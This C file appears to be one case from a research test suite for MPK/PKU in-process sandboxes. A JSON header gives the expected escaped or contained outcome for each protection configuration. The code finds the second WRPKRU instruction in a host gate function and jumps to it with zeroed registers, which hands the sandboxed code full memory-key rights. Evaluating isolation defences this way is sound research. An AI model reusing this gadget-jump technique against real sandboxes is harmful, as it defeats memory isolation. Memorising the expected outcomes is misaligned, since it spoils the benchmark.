/*
{
  "title": "A jump to the last WRPKRU of a host gate, which gives back the rights that it holds in a register",
  "precondition": "CR4.PKE = 1",
  "reference": "Vahldiek-Oberwagner et al., ERIM: Secure, Efficient In-process Isolation with Protection Keys (MPK), USENIX Security 2019, section 3.2; Voulimeneas et al., You Shall Not (by)Pass! Practical, Secure, and Fast PKU-based Sandboxing, EuroSys 2022",
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I1", "event": "pkruWrite"},
    "mpk-hardened": {"outcome": "contained", "event": "exception"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "contained", "event": "exception"},
    "mpk-bundled": {"outcome": "contained"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"
#include "find.h"

// Behind the second WRPKRU the gate restores RAX, R12, RBX, RBP and returns.
static void jump(uint64_t place) {
  __asm__ volatile(
      "leaq 1f(%%rip), %%rsi\n"
      "pushq %%rsi\n"
      "pushq %%rbp\n"
      "pushq %%rbx\n"
      "pushq %%r12\n"
      "jmp *%3\n"
      "1:" : : "a"(0), "c"(0), "d"(0), "r"(place) : "rsi", "memory");
}

int main(void) {
  BYPASS_OF_KEYS(const uint64_t first = find((const void *)ushell_puts, "\x0f\x01\xef", 3);
                 jump(find((const void *)(first + 3), "\x0f\x01\xef", 3)));
  GOAL_COUNT();
  return 0;
}
